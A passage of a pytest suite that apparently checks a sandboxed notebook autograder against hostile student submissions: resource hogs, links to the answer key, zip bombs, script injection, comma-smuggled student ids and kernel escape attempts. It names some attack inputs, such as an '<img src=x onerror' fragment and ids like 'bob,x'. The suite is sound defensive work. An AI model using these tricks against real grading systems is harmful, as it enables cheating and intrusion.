    for student in ("memory_hog", "process_hog", "writes_socket_folder"):
        assert f"{student}: execution stopped: the submission" in stdout, student   # said at once
    disk_hog = outputs(course, "disk_hog")
    assert disk_hog.count("No space left on device") == 3, disk_hog


def test_what_a_submission_writes_stays_in_its_sandbox(graded, machine):
    course, _, _, _ = graded
    assert not list(course.rglob("fill*")), "a submission's files reached the course folder"
    assert not list(machine["tmp"].iterdir()), "a kernel's socket folder was left behind"


def test_progress_is_printed_while_grading(graded):
    _, stdout, _, _ = graded
    lines = stdout.splitlines()
    counts = [int(line.split("/")[0].split()[-1]) for line in lines if f"{CHAPTER}: " in line and " graded, " in line]
    assert counts == sorted(counts) and counts[-1] == len(CASES), counts   # not the two not graded
    assert "elapsed, about" in stdout
    last_progress = max(i for i, line in enumerate(lines) if " graded, " in line)
    first_finding = min(i for i, line in enumerate(lines) if line.startswith("  finding  "))
    assert first_finding < last_progress, "findings should be printed as soon as they are made"


def test_cpu_time_is_bounded(tmp_path):
    """CPU time, outside the batch (a spinning cell there would race the cell time limit): a
    kernel whose processes spin stops at its CPU limit, with the limit named."""
    from nbclient import NotebookClient
    from secure_grading import SandboxedKernelManager
    from traitlets.config import Config

    class Client(NotebookClient):
        def create_kernel_manager(self):
            self.sandbox = super().create_kernel_manager()
            return self.sandbox

    spin = ("import subprocess, sys, time\n"
            f"spinners = [subprocess.Popen([sys.executable, '-c', 'while True: pass  # {MARKER}']) "
            "for _ in range(2)]\ntime.sleep(60)")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(spin)])
    nb.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    config = Config()
    config.SandboxedKernelManager.cpu_limit = 2
    client = Client(nb, timeout=120, kernel_manager_class=SandboxedKernelManager, config=config,
                    resources={"metadata": {"path": str(tmp_path)}})
    with pytest.raises(Exception, match="[Kk]ernel died"):
        client.execute()
    assert client.sandbox.stopped_because == "used more than 2 s of CPU time"


def outputs(course, student) -> str:
    """Everything the student's own cells printed, in the graded copy."""
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", ""))
                     for c in autograded(course, student).cells if c.cell_type == "code"
                     for o in c.outputs)


def test_a_file_that_is_not_a_notebook_scores_zero_and_the_class_goes_on(graded):
    course, stdout, _, _ = graded
    assert "could not be graded" in stdout
    row = next(r for r in (course / "autograder" / "grades.csv").read_text().splitlines()
               if ",not_a_notebook," in r)
    assert row.split(",")[-2:] == ["0.0", "3.0"], row          # score, max_score


def test_the_gradebook_holds_only_the_expected_rows(graded):
    course, _, _, _ = graded
    with Gradebook(f"sqlite:///{course / 'autograder' / 'gradebook.db'}") as gradebook:
        assert sorted(s.id for s in gradebook.students) == sorted([*CASES, *NOT_GRADED, "early_breaker"])
        assert sorted(a.name for a in gradebook.assignments) == [SECOND, CHAPTER]


def test_findings_are_flagged_for_the_instructor(graded):
    course, stdout, _, _ = graded
    log = [json.loads(line) for line in (course / "autograder" / "integrity.jsonl").read_text().splitlines()]
    flagged = {entry["student"] for entry in log}
    assert {"deleted_test", "duplicated_test", "retyped_test", "forged_metadata"} <= flagged
    assert not flagged & set(HONEST), flagged & set(HONEST)
    assert "integrity finding" in stdout


def test_no_process_outlives_grading(graded):
    course, _, before, _ = graded
    leftovers = {pid: cmd for pid, cmd in browser.command_lines().items()
                 if pid not in before and (MARKER in cmd or str(course) in cmd)}
    assert not leftovers, leftovers


def test_the_grades_csv_has_a_row_per_student(graded):
    course, _, _, _ = graded
    rows = (course / "autograder" / "grades.csv").read_text().splitlines()[1:]
    students = len(CASES) + len(NOT_GRADED) + 1        # the ones not graded score zero; early_breaker
    for chapter in (CHAPTER, SECOND):                   # nbgrader writes every student, every chapter
        assert len([row for row in rows if row.startswith(f"{chapter},")]) == students, chapter


# ------------------------------------------------------------------------------------------
# Issue 25: what a student puts beside and inside the notebook

def feedback_text(course, student, chapter=CHAPTER) -> str:
    page = course / "autograder" / "feedback" / student / chapter / f"{chapter}.html"
    return html.unescape(re.sub(r"<[^>]+>", " ", page.read_text()))


def findings_of(course, student) -> list[str]:
    log = (course / "autograder" / "integrity.jsonl").read_text().splitlines()
    return [entry["finding"] for entry in map(json.loads, log) if entry["student"] == student]


REFUSED_BESIDE = ["key.py", "key2.py", "sub/dir/key3.py", "zero", "hard.py", "fifo", "sock",
                  hostile.HTML_NAME, "timestamp.txt", *(["device"] if os.getuid() == 0 else [])]


def test_only_regular_files_enter_grading(graded):
    """Links (absolute, relative, nested, to /dev/zero), a FIFO, a socket, a device, a hard link
    to the key and a timestamp nbgrader cannot read: each refused before nbgrader copied
    anything, kept aside for the instructor, named in the feedback and in integrity.jsonl."""
    course, stdout, _, _ = graded
    student = "links_beside"
    copy = course / "autograder" / "autograded" / student / CHAPTER
    assert sorted(p.name for p in copy.iterdir()) == [f"{CHAPTER}.ipynb"]
    shown, logged = feedback_text(course, student), "\n".join(findings_of(course, student))
    for name in REFUSED_BESIDE:
        assert f"refused {name!r}" in shown and f"refused {name!r}" in logged, name
        assert os.path.lexists(course / "autograder" / "refused" / student / CHAPTER / name), name
        assert not os.path.lexists(course / "autograder" / "submitted" / student / CHAPTER / name), name
    assert "hard link to a file outside" in logged and "named pipe" in logged and "socket" in logged
    assert f"finding  {student}: refused 'key.py'" in stdout
    for folder in ("autograded", "feedback"):       # the key never reached the student's copy
        for path in (course / "autograder" / folder / student).rglob("*"):
            assert not path.is_file() or "Mistake(2049" not in path.read_text(errors="ignore"), path


def test_a_notebook_or_folder_that_is_a_link_is_graded_as_the_blank_release(graded):
    course, stdout, _, _ = graded
    for student in ("notebook_to_solution", "notebook_to_classmate", "folder_to_classmate"):
        text = feedback_text(course, student)
        assert "the blank release was graded in its place" in text, student
        assert "Because." not in text and "a = 2048" not in text, student   # not the solution's
        assert any("refused" in f for f in findings_of(course, student)), student


def test_a_student_folder_that_is_a_link_is_refused(graded):
    course, stdout, _, _ = graded
    assert f"refused  {hostile.STUDENT_FOLDER_LINK}: refused '{hostile.STUDENT_FOLDER_LINK}/'" in stdout
    assert findings_of(course, hostile.STUDENT_FOLDER_LINK)
    with Gradebook(f"sqlite:///{course / 'autograder' / 'gradebook.db'}") as gradebook:
        assert hostile.STUDENT_FOLDER_LINK not in {s.id for s in gradebook.students}


def test_collect_and_zip_collect_copy_only_regular_files(graded):
    course, _, _, commands = graded
    submitted = course / "autograder" / "submitted"
    assert sorted(p.name for p in (submitted / hostile.COLLECTED / CHAPTER).iterdir()) == [
        f"{CHAPTER}.ipynb", "timestamp.txt"]
    assert not (submitted / hostile.ZIPPED / CHAPTER / "extra.ipynb").exists()
    assert "Skipped archive" in commands["zip_collect"] and "over" in commands["zip_collect"]
    extracted = course / "downloaded" / CHAPTER / "extracted"
    assert not [p for p in extracted.rglob("*") if "bomb" in p.name and p.is_file()], "the bomb was unpacked"
    text = feedback_text(course, hostile.COLLECTED)
    assert "refused 'key.py'" in text and "refused 'fifo'" in text
    assert "refused 'extra.ipynb'" in feedback_text(course, hostile.ZIPPED)


def test_files_over_the_size_limits_are_refused_with_a_message(graded):
    course, _, _, _ = graded
    logged = "\n".join(findings_of(course, "oversize"))
    assert "refused 'big.bin'" in logged and "per file" in logged
    assert "over its limit of 2.0 MB" in logged              # the folder's limit
    kept = [p.name for p in (course / "autograder" / "autograded" / "oversize" / CHAPTER).iterdir()]
    assert "big.bin" not in kept and 1 <= sum(name.startswith("part") for name in kept) <= 2, kept


def test_honest_students_keep_full_marks_and_their_files(graded):
    course, _, _, _ = graded
    copy = course / "autograder" / "autograded" / "honest_with_files" / CHAPTER
    assert (copy / "data.csv").read_text() == "a,b\n1,2\n" and (copy / "sub" / "notes.txt").exists()
    for student in HONEST:
        assert not findings_of(course, student), student


def test_graded_copies_hold_nothing_that_runs(graded):
    """What the Formgrader and the feedback render is the graded copy: every markdown and raw
    cell, and every output, passes the checks; JavaScript outputs are gone; each removal is a
    finding. The written answer is still there for the instructor to read, as text."""
    course, _, _, _ = graded
    for student in ("html_in_cells", "html_in_outputs", "attachments", "links_beside"):
        for c in autograded(course, student).cells:
            if c.cell_type == "markdown":
                assert not unsafe_markdown(c.source, c.get("attachments")), (student, c.source[:200])
            if c.cell_type == "raw":
                assert not unsafe_html(c.source), (student, c.source[:200])
            for output in c.get("outputs", []):
                data = output.get("data", {})
                assert "application/javascript" not in data, student
                assert not unsafe_html(data.get("text/html", "")), (student, data)
                assert not unsafe_svg(data.get("image/svg+xml", "")), (student, data)
    logged = "\n".join(findings_of(course, "html_in_outputs"))
    for mime in ("JavaScript", "text/html", "image/svg+xml", "text/markdown"):
        assert mime in logged, mime
    kept = outputs(course, "html_in_outputs") + json.dumps([o for c in autograded(course, "html_in_outputs").cells
                                                             for o in c.get("outputs", [])])
    assert "kept: plain HTML" in kept
    written = next(c for c in autograded(course, "html_in_cells").cells if c.get("id") == "answer-99-text")
    assert "My answer." in written.source and written.metadata["nbgrader"]["grade"]
    assert "removed grading metadata from an unknown cell" in "\n".join(findings_of(course, "html_in_cells"))


def test_grading_notes_show_student_strings_as_text(graded):
    """The notes quote ids and file names a student chose: in the feedback they are text."""
    course, _, _, _ = graded
    page = (course / "autograder" / "feedback" / "links_beside" / CHAPTER / f"{CHAPTER}.html").read_text()
    assert hostile.HTML_NAME not in page and html.escape(hostile.HTML_NAME, quote=False) in page
    page = (course / "autograder" / "feedback" / "html_in_outputs" / CHAPTER / f"{CHAPTER}.html").read_text()
    assert "<img src=x onerror" not in page and "\x1b" not in page
    assert "&lt;img src=x onerror" in page                 # the forged record's message, as text


def test_attachments_are_capped_and_a_missing_one_stops_nothing(graded):
    course, _, _, _ = graded
    logged = "\n".join(findings_of(course, "attachments"))
    assert "attachment 'logo.png'" in logged and "not an image" in logged
    assert logged.count("over the limits") == 1, logged       # the third big one, per notebook
    for student in ("attachments", "early_breaker"):
        chapter = SECOND if student == "early_breaker" else CHAPTER
        assert "Grading notes" in feedback_text(course, student, chapter)


def test_one_submission_never_stops_the_batch(graded):
    """Chapter 98 (graded first) has a notebook nbconvert used to stop at; grading dies for one
    student and feedback fails for another: every other student is graded, in both chapters,
    each of the two gets a page saying so, and make autograde's output names them."""
    course, stdout, _, _ = graded
    with Gradebook(f"sqlite:///{course / 'autograder' / 'gradebook.db'}") as gradebook:
        assert gradebook.find_submission(SECOND, "early_breaker").score == 2
        assert gradebook.find_submission(CHAPTER, "feedback_fails").score == 2
    for student, says in (("feedback_fails", "could not be generated (RuntimeError: a failure the test made)"),
                          ("grader_dies", "could not be graded"), ("not_a_notebook", "could not be graded")):
        assert says in feedback_text(course, student), student
        assert f"NOT GRADED IN FULL: {CHAPTER}  {student}" in stdout, student
    assert "scores 2 / 3" in feedback_text(course, "feedback_fails")


def test_outputs_are_capped_as_they_arrive(graded):
    """300 outputs of 90,000 characters (each under the cap per output) and a 120 MB message:
    the graded copy stays small, and the grading process never held either (its peak memory
    stays far below what the flood would take: the message alone is 120 MB three times over,
    as bytes, as text and as JSON)."""
    course, _, _, state = graded
    path = course / "autograder" / "autograded" / "output_flood" / CHAPTER / f"{CHAPTER}.ipynb"
    assert path.stat().st_size < 2 * hostile.CELL_OUTPUT, path.stat().st_size
    assert any("were left out" in f for f in findings_of(course, "output_flood"))
    assert 100 * 2**20 < state["peak_bytes"] < 600 * 2**20, f"grading peaked at {state['peak_bytes'] / 2**20:.0f} MiB"


def test_make_autograde_names_the_submissions_stopped_at_a_time_limit(graded):
    _, stdout, _, _ = graded
    summary = stdout[stdout.index("stopped at a time limit"):]
    assert f"{CHAPTER}  swallow_interrupt: execution stopped: a cell ran longer than 20 s" in summary


def test_a_notebook_that_waits_out_its_time_limit_is_stopped_there(tmp_path):
    """Outside the batch (it would wait with it): cells that each sleep just under the cell limit
    are stopped at the notebook's limit, which the message names. The course's own limit fits a
    class: a few minutes (docs/threat-model.md, "Time per student fits a class"), not 15."""
    from secure_grading import ExecuteSandboxed
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT / "autograder")).load_config()
    assert config.ExecuteSandboxed.notebook_timeout <= 300
    assert config.Execute.timeout < config.ExecuteSandboxed.notebook_timeout
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("import time\ntime.sleep(2.5)")
                                         for _ in range(4)])
    nb.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    run = ExecuteSandboxed(timeout=3, notebook_timeout=6)
    _, resources = run.preprocess(nb, {"metadata": {"path": str(tmp_path)}})
    assert resources["gpulab_flags"] == ["execution stopped: the notebook ran past its time limit of 6 s"]
    assert not nb.cells[3].execution_count


def _hostile_pages(course):
    with Gradebook(f"sqlite:///{course / 'autograder' / 'gradebook.db'}") as gradebook:
        return {student: gradebook.find_submission_notebook(CHAPTER, CHAPTER, student).id
                for student in ("html_in_cells", "html_in_outputs", "attachments", "links_beside")}


def test_the_instructor_opens_hostile_submissions_and_nothing_runs(graded, machine, chromium):
    """As the instructor: JupyterLab, Nbgrader > Formgrader, each hostile submission in the
    manual grading view (inside JupyterLab's Formgrader frame), then its feedback file. No
    planted script runs (none marks the page) and no request names PWNED or reaches the
    server's API from the frame."""
    course, _, _, _ = graded
    token = jupyter_token(machine)
    page = chromium.new_page(viewport=browser.VIEWPORT)
    suspicious = []

    def watch(route):
        request = route.request
        from_frame = request.frame != page.main_frame
        if "PWNED" in request.url or from_frame and "/api/" in request.url and "/formgrader/api/" not in request.url:
            suspicious.append(f"{request.method} {request.url}")
            route.abort()
        else:
            route.continue_()
    page.route("**/*", watch)
    page.goto(f"http://127.0.0.1:{machine['port']}/lab/tree/notebooks?reset&token={token}")
    page.locator(".lm-MenuBar-itemLabel", has_text="Nbgrader").wait_for(timeout=120_000)
    browser.menu(page, "Nbgrader", "Formgrader")
    frame = page.frame_locator("#formgrader-iframe iframe, iframe").last
    frame.locator("a", has_text="Manual Grading").first.wait_for(timeout=60_000)
    formgrader = next(f for f in page.frames if "/formgrader" in f.url)
    marks = []
    for student, submission_id in _hostile_pages(course).items():
        formgrader.goto(f"http://127.0.0.1:{machine['port']}/formgrader/submissions/{submission_id}/")
        formgrader.locator("#notebook-container").first.wait_for(timeout=60_000)
        page.wait_for_timeout(500)                  # failed image loads, timers
        marks += [(student, f.url, f.evaluate(f"window.{hostile.MARK} || null")) for f in page.frames]
        if student == "html_in_cells":              # the written answer is there, to be graded
            formgrader.locator(".nbgrader_cell", has_text="My answer.").first.wait_for(timeout=10_000)
    feedback = chromium.new_page()
    console = browser.Console(feedback)
    browser.only_local(feedback, console)
    for student in _hostile_pages(course):
        feedback.goto((course / "autograder" / "feedback" / student / CHAPTER / f"{CHAPTER}.html").as_uri())
        feedback.wait_for_timeout(500)
        marks.append((student, "feedback", feedback.evaluate(f"window.{hostile.MARK} || null")))
    page.close()
    feedback.close()
    assert [m for m in marks if m[2]] == [], "planted scripts ran"
    assert not suspicious, suspicious
    assert not list(course.rglob("PWNED*"))


def test_a_course_under_tmp_is_bound_back_into_the_private_tmp(monkeypatch, tmp_path):
    """A CI clone or a venv under /tmp must stay visible: the private /tmp is mounted before the
    Python install and gpulab are bound (bubblewrap mounts in order; the other way round every
    kernel died before it said hello)."""
    import sandbox
    monkeypatch.setattr(sandbox, "python_install", lambda: ["/tmp/clone/.venv"])
    args = sandbox.sandbox_command(str(tmp_path), 3, 4, sandbox.Limits(
        memory_bytes=2**30, tasks=64, disk_bytes=2**20, cpu_seconds=60))
    private_tmp = next(i for i in range(len(args)) if args[i:i + 2] == ["--tmpfs", "/tmp"])
    venv = next(i for i in range(len(args)) if args[i:i + 3] == ["--ro-bind"] + ["/tmp/clone/.venv"] * 2)
    assert private_tmp < venv


# ------------------------------------------------------------------------------------------
# Issue 34: a grader that is never root inside, every step bounded, the exchange, student ids

def test_a_kernel_has_no_capabilities_and_is_not_root(graded):
    """As root, bubblewrap kept root's capabilities: a cell remounted the gpulab bind writable,
    made a device node for the course's disk, mounted it, read the key and wrote beside the
    gradebook. Now the kernel has none, runs as an unprivileged uid outside the sandbox too, can
    make no user namespace of its own, and its root and /dev are read-only."""
    course, _, _, _ = graded
    printed = outputs(course, "root_escape")
    assert "CapEff 0000000000000000 uid outside" in printed, printed
    assert int(printed.split("uid outside ")[1].split()[0]) != 0, printed
    for step in ("etc readable True", "remount failed", "tmpfs failed", "mknod failed", "mount failed",
                 "user namespace failed", "/ not writable", "/dev not writable"):
        assert step in printed, (step, printed)
    assert not (course / "autograder" / "WRITTEN_FROM_THE_DISK").exists()
    assert not list((ROOT / "gpulab").rglob("planted"))


def test_the_socket_folder_is_a_small_tmpfs(graded):
    """A file without a name (O_TMPFILE) in the kernel's socket folder filled the grader's disk
    unseen: the folder is a 1 MiB tmpfs in the sandbox now, counted in the submission's limits."""
    course, _, _, _ = graded
    assert "socket folder: No space left on device" in outputs(course, "socket_folder_tmpfile")


def test_html_is_inspected_in_linear_time(graded):
    """900,000 characters of ``<a b='`` in a raw cell (about 40 minutes before: quadratic) and
    200,000 in an output, shown as text and removed, each with a finding."""
    logged = "\n".join(findings_of(graded[0], "quadratic_html"))
    assert "as text: it held an unfinished tag" in logged and "text/html holding an unfinished tag" in logged


def test_a_submission_past_its_limit_scores_zero_and_the_class_goes_on(monkeypatch, tmp_path):
    """`make autograde`'s watch on its nbgrader processes (grade.autograde), with a stand-in for
    nbgrader that hangs at one submission: that process is stopped at the limit per submission,
    the submission scores zero with a finding, and the rest of its share is graded in a new
    process. (A stand-in: in the batch, a process that waits out the limit would hold a core for
    as long; the batch's grader_dies shows the same restart with nbgrader itself.)"""
    import grade
    monkeypatch.setattr(grade, "AUTOGRADER", tmp_path)
    monkeypatch.setattr(grade, "SUBMITTED", tmp_path / "submitted")
    students = ["a_hangs", "b", "c", "d", "e"]
    for student in students:
        (tmp_path / "submitted" / student / CHAPTER).mkdir(parents=True)

    def grade_share(share):             # as nbgrader: in path order, a progress line for each
        for student in share:
            if student == "a_hangs":
                time.sleep(3600)
            with open(tmp_path / grade.PROGRESS_LOG, "a") as log:
                log.write(json.dumps({"student": student, "assignment": CHAPTER, "notebook": CHAPTER}) + "\n")

    class StandIn(grade.Run):
        def __init__(self, *args):
            share = sorted(set(students) - set(args[-1].split("=", 1)[1].split(",")), key=lambda s: s + "/")
            self.process = multiprocessing.get_context("fork").Process(target=grade_share, args=(share,))
            self.process.start()
            self.since, self.over_limit = time.monotonic(), False

        def finish(self):
            self.process.join()
            return self.process.exitcode, {}

    monkeypatch.setattr(grade, "Run", StandIn)
    failed = grade.autograde(CHAPTER, jobs=2, limit=2)
    assert failed == {"a_hangs": "its grading ran past the limit of 2 s per submission"}
    assert grade._graded(CHAPTER) == set(students) - {"a_hangs"}
    finding = json.loads((tmp_path / grade.INTEGRITY_LOG).read_text())
    assert finding["student"] == "a_hangs" and finding["finding"].endswith("; it scores zero")


@pytest.mark.needs_root
def test_a_submission_counts_only_for_the_account_that_owns_it(graded):
    """A later submission in a classmate's name, owned by another account, replaced their work
    (nbgrader's check_owner only warns): refused, and named in the classmate's feedback. Making
    a folder another account owns takes root."""
    course, _, _, commands = graded
    why = f"it is owned by the account {hostile.CLASSMATE!r}, not by {hostile.COLLECTED!r}"
    assert why in "\n".join(hostile.records(course)[hostile.COLLECTED])
    assert why in feedback_text(course, hostile.COLLECTED) and why in commands["collect"]


def test_an_inbound_link_to_a_classmate_is_refused(graded):
    """An inbound entry in a student's own name that links to a classmate's submission was
    followed (the classmate's marks for a copy): refused, and nothing collected for it."""
    course, _, _, commands = graded
    assert not (course / "autograder" / "submitted" / hostile.CLASSMATE).exists()
    assert "a symbolic link" in "\n".join(hostile.records(course)[hostile.CLASSMATE])
    assert f"refused the inbound submission '{hostile.CLASSMATE}+{CHAPTER}+" in commands["collect"]


def test_a_student_id_with_a_comma_is_refused_and_its_namesake_graded(graded):
    """A folder 'honest,x' kept 'honest' out of grading (nbgrader splits the ids it leaves out
    at commas): it is refused with a clear message, and 'honest' is graded."""
    course, stdout, _, _ = graded
    says = f"refused the folder {hostile.COMMA_ID!r}: {hostile.COMMA_ID!r} is not a valid student id"
    assert f"refused  {hostile.COMMA_ID}: {says}" in stdout
    assert (course / "autograder" / "refused" / "(invalid ids)" / hostile.COMMA_ID).is_dir()
    with Gradebook(f"sqlite:///{course / 'autograder' / 'gradebook.db'}") as gradebook:
        assert gradebook.find_submission(CHAPTER, "honest").score == 2


def test_student_ids_are_letters_digits_and_dot_underscore_dash():
    from intake import invalid_student_id
    assert not any(map(invalid_student_id, ["alice", "bob.smith", "s_123-x", "_x", "A1"]))
    for bad in ["bob,x", "a+b", "a b", "a/b", ".hidden", "-option", "", "ü", "x" * 101, "a*"]:
        assert bad[:100] in invalid_student_id(bad) and "not a valid student id" in invalid_student_id(bad)


def test_html_the_parser_rejects_or_too_large_counts_as_unsafe():
    """html.parser raises on '<![<!' (an output with it stopped its submission's grading) and
    inspection is capped in size."""
    from graded_html import MAX_HTML_CHARS, MAX_MARKDOWN_CHARS
    assert unsafe_html("<![<![<!x") == ["markup that cannot be read safely"]
    assert unsafe_svg("<![<![<!x") == ["markup that cannot be read safely"]
    assert "not inspected" in unsafe_html("x" * (MAX_HTML_CHARS + 1))[0]
    assert "not inspected" in unsafe_markdown("<b>x</b>" * (MAX_MARKDOWN_CHARS // 8 + 1))[0]
    assert unsafe_html("<b>fine</b> &amp; text") == []


def test_a_feedback_page_past_its_limit_stops_with_an_error():
    """The feedback deadline (nbgrader's pre- and post-convert hooks of generate_feedback): a page
    over it raises, which nbgrader reports for that student alone (the batch's feedback_fails
    shows what follows); a page within it leaves no alarm behind; and in a server's event loop
    (the Formgrader's feedback button) it sets none. In a process of its own: this one may run an
    event loop (Playwright's)."""
    code = f"""
import asyncio, sys, time
sys.path.insert(0, {str(ROOT / "autograder")!r})
from secure_grading import FeedbackDeadline
deadline = FeedbackDeadline(lambda: 0.3)
deadline.start()
start = time.monotonic()
try:
    while time.monotonic() - start < 30:
        sum(range(1000))
except TimeoutError as error:
    print("stopped:", error)
deadline.start()
deadline.stop()
time.sleep(0.5)
async def in_a_server():
    deadline.start()
    await asyncio.sleep(0.5)
asyncio.run(in_a_server())
print("no alarm left")
"""
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert result.stdout.splitlines() == ["stopped: its feedback took longer than 0.3 s (the limit per "
                                          "submission)", "no alarm left"], result.stdout + result.stderr


def test_the_folders_above_the_sandbox_mounts_are_open_to_its_user(monkeypatch, tmp_path):
    """A Python install or a course behind a closed folder (a clone in a private home folder,
    pyenv under /root): bubblewrap made the folders above a mount point 0700, which a root
    grader's kernel, not root, could not pass; they are made 0755, before the mount."""
    import sandbox
    monkeypatch.setattr(sandbox, "python_install", lambda: ["/root/.pyenv/versions/3.11"])
    args = sandbox.sandbox_command(str(tmp_path), 3, 4, sandbox.Limits(
        memory_bytes=2**30, tasks=64, disk_bytes=2**20, cpu_seconds=60))
    text = " ".join(args)
    bind = text.index("--ro-bind /root/.pyenv/versions/3.11")
    for parent in ("/root", "/root/.pyenv", "/root/.pyenv/versions"):
        assert text.index(f"--perms 0755 --dir {parent} ") < bind, parent
    assert text.index("--perms 0755 --dir /etc ") < text.index("--ro-bind /etc/")
    assert f"--perms 0755 --dir {tmp_path.parent} " in text      # the working copy's, under /tmp
    assert "--cap-drop ALL" in text and "--remount-ro /" in text
